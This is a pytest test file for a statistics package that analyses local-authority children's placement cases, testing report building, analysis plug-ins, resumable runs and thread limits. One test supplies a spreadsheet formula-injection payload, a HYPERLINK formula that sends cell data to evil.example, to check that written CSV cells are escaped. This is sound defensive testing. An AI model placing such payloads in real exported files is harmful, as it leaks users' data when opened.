def test_the_seed_run_gets_the_methods_paper_and_any_other_the_study_report(fast_run):
    out, _ = fast_run
    assert paper.template(out).name == "paper.typ"
    manifest = json.loads((out / "manifest.json").read_text())
    assert paper.is_seed_run(manifest)
    assert manifest["study_file"]["path"].endswith("south_east.toml")
    assert len(manifest["study_file"]["sha256"]) == 64
    assert not paper.is_seed_run({**manifest, "study": {**manifest["study"], "published": None}})


@pytest.mark.slow
def test_the_study_report_compiles_on_the_seed_run(fast_run, tmp_path, page_blankness, pdf_text):
    # study.typ reads any run: on the seed run every section is there, its case-row
    # figures of kind case_rows and its estimates method checks
    out, _ = fast_run
    pdf = paper.build(out, tmp_path / "study.pdf", typ=paper.source(paper.STUDY))
    text = pdf_text(pdf)
    assert "South East Complex LAC needs analysis" in text
    assert "the calibrated synthetic South East sample" in text
    for heading in ("Risk and cost", "Authority effects", "Commissioning cohorts", "Colophon"):
        assert heading in text
    assert "The study file is south_east.toml" in text
    assert max(page_blankness(pdf).values()) <= 0.5


def test_numbers_json_writes_a_figure_that_is_not_a_number_as_null():
    # JSON has no NaN: json.dumps would write one that typst (the paper) cannot read
    text = dumps({"rho": float("nan"), "n": np.float64("inf"), "ok": [1.5, np.float64(2)]})
    assert json.loads(text) == {"n": None, "ok": [1.5, 2.0], "rho": None}
    assert "NaN" not in text
    assert "Infinity" not in text


# ------------------------------------------------------------------- analyses as plug-ins


def test_the_readme_table_of_analyses_is_the_declarations():
    from pathlib import Path

    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    table = analysis.readme_table()
    assert table in readme, "README's table of analyses differs from analysis.readme_table()"
    assert table.count("\n") == len(analysis.catalogue()) + 1


def test_a_declaration_read_without_running_its_file_is_the_one_it_makes():
    # the runner reads ANALYSIS from the source; importing the file gives the same object
    for name, entry in analysis.catalogue().items():
        module = entry.load()
        assert entry.analysis == module.ANALYSIS, name
        assert callable(module.run)


def test_declarations_are_checked(tmp_path):
    folder = tmp_path / "analyses"
    folder.mkdir()
    source = folder / "odd.py"
    source.write_text(
        "import os\nfrom lacstats.analysis import Analysis\n"
        "ANALYSIS = Analysis(name=os.sep, title='x')\ndef run(ctx):\n    pass\n"
    )
    with pytest.raises(LacstatsError, match=r"odd\.py, line 3: ANALYSIS may use only"):
        analysis.catalogue(folder)
    source.write_text("def run(ctx):\n    pass\n")
    with pytest.raises(LacstatsError, match="declares ANALYSIS"):
        analysis.catalogue(folder)
    source.write_text(
        "from lacstats.analysis import Analysis\n"
        "ANALYSIS = Analysis(name='odd', title='x', paper='maybe')\ndef run(ctx):\n    pass\n"
    )
    with pytest.raises(LacstatsError, match="paper must be one of required, optional, no"):
        analysis.catalogue(folder)
    # a figure it does not declare is refused
    source.write_text(
        "import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n"
        "from lacstats.analysis import Analysis\n"
        "ANALYSIS = Analysis(name='odd', title='x', figures=('one',))\n"
        "def run(ctx):\n    ctx.figure('two', plt.figure())\n"
    )
    with pytest.raises(AnalysisFailed, match="figure 'two' is not among those it declares"):
        run_all(tmp_path / "out", folder=folder)


def test_requirements_are_judged_before_any_analysis_runs(tmp_path):
    """A zero weekly cost (placed with parents) is a real case: the lognormal models leave
    it out and count it; an analysis without its columns does not start."""
    from lacstats import study

    cases = synthetic.complex_lac(rng=2019)
    with_parents = cases.index[cases["placement_setting"] == "with_parents"]
    cases.loc[with_parents, "weekly_cost"] = 0.0
    cases = cases.drop(columns=["risk_violence"])
    path = tmp_path / "ours.csv"
    cases.to_csv(path, index=False)
    ours = study.south_east().with_cases(path)
    data = analysis.case_data(ours, 2019)
    checked = analysis.check(analysis.catalogue(), data, ours)
    frame = checked.to_frame().set_index(["analysis", "part"])
    # risk and cost needs every risk factor: it does not run, and says why
    assert checked.not_run("risk_cost") == {
        "analysis": "the data have no risk_violence, risk_score"
    }
    assert not checked.runs("risk_cost")
    # the authority effects' cost models leave the zero-cost cases out; the distance
    # model keeps them
    left_out = frame.loc[("authority_effects", "cost models"), "cases_left_out"]
    assert left_out == len(with_parents) > 0
    assert checked.runs("authority_effects", "placement far from home")
    unusable = checked.unusable()
    assert set(unusable["case_id"]) == set(cases.loc[with_parents, "case_id"])
    assert set(unusable["analyses"]) == {"authority_effects"}
    assert (unusable["value"] == 0.0).all()
    text = checked.summary()
    first = cases.loc[with_parents[0]]
    assert f"row {with_parents[0] + 1}: {first['case_id']}, weekly_cost = 0.0" in text
    assert "risk_cost: not run: the data have no risk_violence, risk_score" in text


# ---------------------------------------------------------------------------- no work lost

_FLAKY = """
from pathlib import Path
from lacstats.analysis import Analysis
ANALYSIS = Analysis(name="flaky", title="fails while a marker file is there")
def run(ctx):
    if Path({marker!r}).exists():
        raise ValueError("a bug, fixed between the runs")
    ctx.numbers(seed=(ctx.seed, "seed"))
"""


def test_a_failed_analysis_then_resume_gives_a_clean_runs_bytes(tmp_path):
    """One analysis raises: the others finish and are kept, the failure is named; after
    the fix, --resume runs only the failed one, and every other output is byte-identical
    to a clean run's."""
    folder = tmp_path / "analyses"
    folder.mkdir()
    real = ["calibrated_sample", "savings", "sufficiency"]
    for name in real:
        shutil.copy(analysis.catalogue()[name].path, folder)
    marker = tmp_path / "bug"
    marker.touch()
    (folder / "flaky.py").write_text(_FLAKY.format(marker=str(marker)))
    out = tmp_path / "results"
    said: list[str] = []
    with pytest.raises(AnalysisFailed) as failed:
        run_all(out, folder=folder, seed=5, fast=True, jobs=2, progress=said.append)
    assert failed.value.failures == {"flaky": "ValueError: a bug, fixed between the runs"}
    assert "The 3 that finished are kept in" in str(failed.value)
    assert sorted(failed.value.summary.table["analysis"]) == real
    assert not out.exists()  # the results folder is replaced only by a complete run
    partial = partial_folder(out)
    assert sorted(p.name for p in partial.iterdir() if not p.name.startswith(".")) == real
    assert "Traceback" in (partial / ".flaky.error.txt").read_text()
    # what a resumed run reads back is JSON, never a pickle (reading one runs its code)
    assert not list(partial.rglob("*.pkl"))
    assert sorted(p.name for p in partial.glob(".*.findings.json")) == [
        f".{name}.findings.json" for name in real
    ]
    marker.unlink()  # the fix
    said.clear()
    summary = run_all(
        out, folder=folder, seed=5, fast=True, jobs=2, progress=said.append, resume=True
    )
    assert summary.resumed == tuple(real)
    # only the failed analysis ran again
    assert [m.split("]")[0] for m in said if " done in " in m] == ["[flaky"]
    assert not partial.exists()
    clean = run_all(tmp_path / "clean", folder=folder, seed=5, fast=True, jobs=1)
    assert clean.resumed == ()
    # every result file (the manifests record wall times; the marker, what was written)
    written = sorted(
        p.relative_to(out)
        for p in out.rglob("*")
        if p.is_file() and p.name != "manifest.json" and not p.name.startswith(".")
    )
    assert len(written) >= 15
    for path in written:
        assert (out / path).read_bytes() == (tmp_path / "clean" / path).read_bytes(), path
    assert summary.findings.equals(clean.findings)


def test_the_command_names_a_failed_analysis_and_resumes(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "analyses"
    folder.mkdir()
    shutil.copy(analysis.catalogue()["savings"].path, folder)
    marker = tmp_path / "bug"
    marker.touch()
    (folder / "flaky.py").write_text(_FLAKY.format(marker=str(marker)))
    monkeypatch.setattr("lacstats.reproduce.analyses_folder", lambda: folder)
    out = tmp_path / "results"
    args = ["reproduce", "--out", str(out), "--quiet", "--jobs", "1"]
    assert cli.main(args) == 3
    err = capsys.readouterr().err
    assert "lacstats: error: 1 analysis failed: flaky (ValueError: a bug" in err
    assert "run again with --resume" in err
    assert cli.main(args) == 2  # a run that would discard the finished analyses is refused
    assert "holds an unfinished run (1 finished analyses: savings); --resume" in (
        capsys.readouterr().err
    )
    marker.unlink()
    assert cli.main([*args, "--resume"]) == 0
    assert "reused from the unfinished run: savings" in capsys.readouterr().out
    assert json.loads((out / "manifest.json").read_text())["resumed_from_partial_run"] == [
        "savings"
    ]


_TABLE = """
import pandas as pd
from lacstats.analysis import Analysis
ANALYSIS = Analysis(name="labels", title="writes a table of text")
def run(ctx):
    ctx.table("labels", pd.DataFrame({
        "label": ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "@SUM(A1)", "Kent", "-0.5"],
        "value": [1.5, -2.0, 3.0, 4.0],
    }))
    ctx.numbers(seed=(ctx.seed, "seed"))
"""


def test_result_tables_are_written_with_safe_cells(tmp_path):
    # (OWASP's CSV injection guidance) a text cell a spreadsheet would evaluate is written
    # as text; numbers, number-like text and ordinary text are written as pandas writes them
    folder = tmp_path / "analyses"
    folder.mkdir()
    (folder / "labels.py").write_text(_TABLE)
    run_all(tmp_path / "out", folder=folder, seed=1, fast=True, jobs=1)
    written = (tmp_path / "out" / "labels" / "labels.csv").read_text(encoding="utf-8")
    assert written.splitlines() == [
        "label,value",
        '"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",1.5',
        "'@SUM(A1),-2.0",
        "Kent,3.0",
        "-0.5,4.0",
    ]


_THREADS = """
import joblib
from threadpoolctl import threadpool_info
from lacstats.analysis import Analysis
ANALYSIS = Analysis(name="threads_{n}", title="reports the threads it may use")
def run(ctx):
    blas = [i["num_threads"] for i in threadpool_info() if i["user_api"] == "blas"]
    openmp = [i["num_threads"] for i in threadpool_info() if i["user_api"] == "openmp"]
    ctx.numbers(
        blas_libraries=(len(blas), "libraries"),
        blas_threads=(max(blas), "threads"),
        openmp_threads=(max(openmp), "threads"),
        joblib_jobs=(joblib.effective_n_jobs(-1), "processes"),
    )
"""


@pytest.mark.parametrize("jobs", [1, 2])
def test_analyses_run_their_linear_algebra_on_one_thread(tmp_path, jobs):
    # results must not depend on the machine's number of cores, and analyses side by side
    # must not each start a BLAS or OpenMP thread per core, nor joblib processes of their
    # own: in this process and in a worker
    import joblib
    from threadpoolctl import threadpool_info, threadpool_limits

    folder = tmp_path / "analyses"
    folder.mkdir()
    for n in (1, 2):
        (folder / f"threads_{n}.py").write_text(_THREADS.format(n=n))
    with threadpool_limits(limits=2):  # as on a machine of 2 cores or more
        run_all(tmp_path / "out", folder=folder, seed=1, fast=True, jobs=jobs)
        after = {i["num_threads"] for i in threadpool_info()}
    assert after == {2}  # the limits are lifted when the analysis ends
    assert joblib.effective_n_jobs(-1) == joblib.cpu_count()
    for n in (1, 2):
        numbers = json.loads((tmp_path / "out" / f"threads_{n}" / "numbers.json").read_text())
        assert numbers["blas_libraries"]["value"] == 2  # numpy's and scipy's OpenBLAS
        assert numbers["blas_threads"]["value"] == 1
        assert numbers["openmp_threads"]["value"] == 1
        # alone, an analysis's joblib loops may use every core; side by side, one
        expected = joblib.cpu_count() if jobs == 1 else 1
        assert numbers["joblib_jobs"]["value"] == expected
